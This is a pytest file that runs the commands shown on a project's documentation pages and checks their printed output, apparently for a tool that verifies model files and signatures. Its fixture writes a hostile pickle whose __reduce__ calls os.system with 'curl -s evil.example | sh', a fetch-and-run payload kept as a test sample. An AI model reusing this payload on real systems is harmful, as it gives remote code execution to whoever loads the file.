"""Every command that a page shows is run, and prints what the page says."""

import os
import pickle
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from authority import authority, leaf, root
from docs.pages import PAGES, keeps, promises

SHOWING = [page for page in PAGES if promises(page)]


class Shell:
    """What `pickle` is told to call when it loads; nothing here loads it."""

    def __reduce__(self):
        return os.system, ("curl -s evil.example | sh",)


@pytest.fixture
def desk(tmp_path):
    """Return a directory with what the pages speak of: a model, a downloaded file that attacks, a pair of keys."""
    (tmp_path / "download.pkl").write_bytes(pickle.dumps({"weights": [0.1, 0.2], "on_load": Shell()}, protocol=4))
    (tmp_path / "model").mkdir()
    (tmp_path / "model" / "weights.pkl").write_bytes(pickle.dumps([0.25, 0.5, 0.25], protocol=4))
    (tmp_path / "model" / "README.md").write_text("A model of three numbers.\n")
    key = ec.generate_private_key(ec.SECP256R1())
    private = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    public = key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    (tmp_path / "producer.pem").write_bytes(private)
    (tmp_path / "producer.pem").chmod(0o600)
    (tmp_path / "producer.pub").write_bytes(public)
    now = datetime.now(UTC)
    valid = {"begins": now - timedelta(days=1), "ends": now + timedelta(days=9)}
    top = root(**valid)
    by = authority(top, **valid)
    signer = leaf(by, **valid)
    (tmp_path / "signer.pem").write_bytes(signer.private)
    (tmp_path / "chain.pem").write_bytes(signer.pem + by.pem)
    (tmp_path / "company.pem").write_bytes(top.pem)
    return tmp_path


def run(command, place):
    environment = os.environ | {"PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}", "COLUMNS": "100"}
    done = subprocess.run(
        ["sh", "-c", command],
        cwd=place,
        env=environment,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        encoding="utf-8",
        timeout=60,
        check=False,
    )
    return done.stdout.splitlines(), done.returncode


@pytest.mark.parametrize("page", SHOWING, ids=lambda page: page.name)
def test_a_page_keeps_its_promises(page, desk):
    last = 0
    for command, promised in promises(page):
        printed, last = ([str(last)], 0) if command == "echo $?" else run(command, desk)
        assert len(printed) == len(promised), "\n".join([f"$ {command}", *printed])
        for wanted, seen in zip(promised, printed, strict=True):
            assert keeps(wanted, seen), f"$ {command}\npromised: {wanted}\nprinted:  {seen}"
